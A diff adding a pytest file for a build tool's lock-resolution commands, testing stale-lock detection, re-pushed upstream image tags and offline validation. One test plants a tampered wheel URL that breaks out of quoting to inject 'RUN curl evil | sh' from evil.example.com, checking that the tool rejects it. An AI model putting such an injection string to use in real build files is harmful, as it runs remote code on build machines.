@@ -1,0 +1,103 @@
+"""`resolve --check` (stale lock or upstream moved: exit 1, write nothing) and `resolve --offline` (no network)."""
+
+from __future__ import annotations
+
+import json
+import shutil
+
+from tests.conftest import REPO_ROOT
+from tests.fake_upstreams import BASE_REPO, BASE_TAG, VLLM_SHA
+
+
+def resolved(project):
+    root, cli = project
+    result = cli("resolve")
+    assert result.code == 0, result.output
+    return root, cli, (root / "pins.lock").read_bytes()
+
+
+def no_network_env():
+    # Endpoints that would refuse every connection: --offline must not try any.
+    return {"BUILDKIT_GITHUB_API": "http://127.0.0.1:9", "BUILDKIT_WHEEL_INDEX": "http://127.0.0.1:9"}
+
+
+def test_check_passes_on_a_fresh_lock_and_writes_nothing(project):
+    root, cli, before = resolved(project)
+    result = cli("resolve", "--check", "--json")
+    assert result.code == 0, result.output
+    assert json.loads(result.stdout)["vllm"]["commit"] == VLLM_SHA
+    assert (root / "pins.lock").read_bytes() == before
+
+
+def test_check_fails_when_pins_changed(project, upstreams):
+    root, cli, before = resolved(project)
+    (root / "pins.yaml").write_text((root / "pins.yaml").read_text().replace('cuda_arch_list: "9.0"', 'cuda_arch_list: "9.0 10.0"'))
+    log_size = len(upstreams.github.log)
+    result = cli("resolve", "--check")
+    assert result.code == 1 and "is stale" in result.stderr and "pins hash differs" in result.stderr
+    assert len(upstreams.github.log) == log_size, "a stale lock is known without asking upstream"
+    assert (root / "pins.lock").read_bytes() == before
+
+
+def test_check_fails_when_upstream_moved(project, upstreams):
+    root, cli, before = resolved(project)
+    old_digest = upstreams.registry.tags[(BASE_REPO, BASE_TAG)]
+    # The tag is re-pushed with different content.
+    new_digest = upstreams.registry.add_image(BASE_REPO, BASE_TAG, platforms=("linux/amd64", "linux/s390x"))
+    assert new_digest != old_digest
+    result = cli("resolve", "--check")
+    assert result.code == 1, result.output
+    assert "upstream no longer agrees" in result.stderr and "base_image.index_digest" in result.stderr
+    assert old_digest in result.stderr and new_digest in result.stderr
+    assert (root / "pins.lock").read_bytes() == before
+
+
+def test_check_fails_when_the_wheel_changed(project, upstreams):
+    root, cli, before = resolved(project)
+    for wheel in upstreams.wheels.files.values():
+        wheel.size += 1
+    result = cli("resolve", "--check")
+    assert result.code == 1 and "wheel.size" in result.stderr
+
+
+def test_check_without_a_lock(project):
+    root, cli = project
+    result = cli("resolve", "--check")
+    assert result.code == 1 and "no lock to check" in result.stderr
+    assert not (root / "pins.lock").exists()
+
+
+def test_offline_validates_pins_and_lock_without_network(project, upstreams):
+    root, cli, before = resolved(project)
+    upstreams.stop()
+    result = cli("resolve", "--offline", "--json", env=no_network_env())
+    assert result.code == 0, result.output
+    assert json.loads(result.stdout)["nemo_rl"]["ref"] == "946862e7"
+    assert "no network used" in result.stderr
+
+
+def test_offline_finds_a_lock_that_does_not_match_the_pins(project, upstreams):
+    root, cli, before = resolved(project)
+    (root / "pins.yaml").write_text((root / "pins.yaml").read_text().replace('ref: "946862e7"', 'ref: "946862e"'))
+    result = cli("resolve", "--offline", env=no_network_env())
+    assert result.code == 1, result.output
+    assert "nemo_rl.ref: lock resolved '946862e7', pins say '946862e'" in result.stderr
+    assert (root / "pins.lock").read_bytes() == before
+
+
+def test_offline_rejects_a_tampered_lock(project):
+    root, cli, _ = resolved(project)
+    lock = json.loads((root / "pins.lock").read_text())
+    lock["wheel"]["url"] = 'https://evil.example.com/x.whl"; RUN curl evil | sh; "'
+    (root / "pins.lock").write_text(json.dumps(lock))
+    result = cli("resolve", "--offline", env=no_network_env())
+    assert result.code == 2 and "invalid lock" in result.stderr and "wheel.url" in result.stderr
+
+
+def test_offline_on_the_shipped_pins(cli, tmp_path):
+    shutil.copy(REPO_ROOT / "pins.yaml", tmp_path / "pins.yaml")
+    result = cli("resolve", "--offline", env=no_network_env())
+    assert result.code == 0, result.output
+    assert "pins valid" in result.stderr and not (tmp_path / "pins.lock").exists()
+    result = cli("resolve", "--offline", "--check", env=no_network_env())
+    assert result.code == 1 and "no lock" in result.stderr
